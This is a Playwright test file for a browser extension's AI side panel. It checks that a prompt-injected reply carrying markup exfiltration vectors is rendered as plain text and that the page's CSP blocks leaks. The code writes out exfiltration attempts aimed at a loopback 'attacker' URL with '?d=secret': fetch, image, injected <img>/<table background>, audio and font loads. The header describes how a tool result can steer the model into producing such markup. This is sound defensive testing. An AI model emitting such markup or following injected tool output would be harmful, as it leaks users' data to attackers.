/**
 * Issue 11, item 1: zero-click exfiltration from the side panel. A tool result steers the model into writing
 * markup that makes the panel fetch an attacker's address with the person's data in it. The scripted cloud model
 * writes every known vector, each pointing at a second loopback server (the attacker) that records what it is
 * asked; after the reply is on screen, the attacker has heard nothing. Then the pages' CSP is tested on its own,
 * as if markup had slipped through the sanitiser.
 */
import type { ConsoleMessage, Page } from '@playwright/test';
import { EXFILTRATION_REPLY_LANDMARK, exfiltrationReply } from '../fixtures/exfiltration-vectors';
import { type AttackerServer, startAttackerServer } from '../servers/attacker-server';
import { expect, openShopWithPanel, test as panelTest, useCloud } from './sidepanel-helpers';

const test = panelTest.extend<{ attacker: AttackerServer }>({
  // biome-ignore lint/correctness/noEmptyPattern: Playwright reads a fixture's dependencies from this pattern.
  attacker: async ({}, use) => {
    const server = await startAttackerServer();
    await use(server);
    await server.close();
  },
});

test.describe.configure({ timeout: 90_000 });

/** Anything in the rendered reply that could fetch by itself. */
const FETCHING =
  'img, picture, source, video, audio, track, svg, math, link, meta, base, style, form, input, button, object, embed, iframe, frame, [style], [background], [srcset], [src], [poster], [action], [formaction], [ping], [data]';

/** Lets the page lay out and paint twice, so any fetch its markup would start has been started. */
function settle(page: Page) {
  return page.evaluate(() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done))));
}

/**
 * The loads a page's CSP refused, as Chromium reports them on the console ("Refused to load the image …",
 * "Refused to connect to …"). Other refusals are left out: DOMPurify's parse document inherits the page's policy,
 * so sanitising hostile markup logs refused inline styles and base URIs that never reach the page.
 */
function cspRefusedLoads(page: Page): string[] {
  const refused: string[] = [];
  page.on('console', (message: ConsoleMessage) => {
    if (/^Refused to (load|connect|frame|prefetch)/i.test(message.text())) refused.push(message.text());
  });
  return refused;
}

test('a reply carrying every exfiltration vector shows as text, and the attacker hears nothing', async ({
  context,
  server,
  provider,
  serviceWorker,
  openSidePanel,
  attacker,
}) => {
  await useCloud(serviceWorker, provider);
  provider.script({ type: 'reply', text: exfiltrationReply(attacker.url) });

  const { panel } = await openShopWithPanel(context, server.url, openSidePanel);
  const refused = cspRefusedLoads(panel);
  await panel.getByRole('textbox', { name: 'Message' }).fill('Summarise the page');
  await panel.getByRole('button', { name: 'Send' }).click();

  const reply = panel.locator('.conversation .markdown');
  await expect(reply.getByText(EXFILTRATION_REPLY_LANDMARK)).toBeVisible({ timeout: 30_000 });
  await expect(panel.getByRole('button', { name: 'Send' })).toBeVisible();
  await settle(panel);
  expect(attacker.requests).toEqual([]);
  expect(await reply.locator(FETCHING).evaluateAll((nodes) => nodes.map((n) => n.outerHTML))).toEqual([]);
  // No load even needed refusing: the sanitiser left nothing for the CSP to block.
  expect(refused).toEqual([]);

  // The remote image is its alt text and its address, as a link the person may click.
  const imageLink = reply.getByRole('link', { name: `${attacker.url}/v/markdown-image?d=secret` });
  await expect(imageLink).toBeVisible();
  await expect(reply.getByText('Image: chart').first()).toBeVisible();
  await expect(imageLink).toHaveAttribute('target', '_blank');
  await expect(imageLink).toHaveAttribute('rel', 'noopener noreferrer nofollow');
});

for (const file of ['sidepanel.html', 'options.html']) {
  test(`${file}: the CSP blocks fetches, images, media and fonts even if markup slipped through, and the page still renders`, async ({
    context,
    extensionId,
    attacker,
  }) => {
    const page = await context.newPage();
    const refused = cspRefusedLoads(page);
    await page.goto(`chrome-extension://${extensionId}/${file}`);
    await expect(page.locator('h1').first()).toBeVisible();
    // The page's own CSS files loaded, and Preact-style CSSOM writes still apply.
    const rendered = await page.evaluate(() => {
      const probe = document.createElement('div');
      probe.style.width = '7px';
      document.body.append(probe);
      const width = getComputedStyle(probe).width;
      probe.remove();
      return { sheets: document.styleSheets.length, width };
    });
    expect(rendered).toEqual({ sheets: expect.any(Number), width: '7px' });
    expect(rendered.sheets).toBeGreaterThan(0);
    expect(refused).toEqual([]);

    const outcome = await page.evaluate(async (base) => {
      const violations: string[] = [];
      (window as any).violations = violations;
      document.addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective));
      const fetched = await fetch(`${base}/csp/fetch?d=secret`).then(
        () => 'resolved',
        () => 'rejected',
      );
      const image = await new Promise<string>((done) => {
        const img = new Image();
        img.onload = () => done('loaded');
        img.onerror = () => done('refused');
        img.src = `${base}/csp/image?d=secret`;
      });
      // Markup that skipped the sanitiser: an <img> and a table background put straight into the document.
      const injected = await new Promise<string>((done) => {
        const holder = document.createElement('div');
        holder.innerHTML = `<table background="${base}/csp/table-background?d=secret"><tr><td>x</td></tr></table><img src="${base}/csp/injected-img?d=secret">`;
        const img = holder.querySelector('img')!;
        img.onload = () => done('loaded');
        img.onerror = () => done('refused');
        document.body.append(holder);
      });
      const media = await new Promise<string>((done) => {
        const audio = new Audio();
        audio.onloadeddata = () => done('loaded');
        audio.onerror = () => done('refused');
        audio.src = `${base}/csp/audio?d=secret`;
      });
      const font = await new FontFace('Leak', `url(${base}/csp/font?d=secret)`).load().then(
        () => 'loaded',
        () => 'refused',
      );
      return { fetched, image, injected, media, font };
    }, attacker.url);

    expect(outcome).toEqual({ fetched: 'rejected', image: 'refused', injected: 'refused', media: 'refused', font: 'refused' });
    // Refused by the policy, not by chance: the page reports each directive that blocked a load.
    await expect
      .poll(() => page.evaluate(() => [...new Set((window as any).violations as string[])].sort()))
      .toEqual(['connect-src', 'font-src', 'img-src', 'media-src']);
    await settle(page);
    expect(attacker.requests).toEqual([]);
  });
}
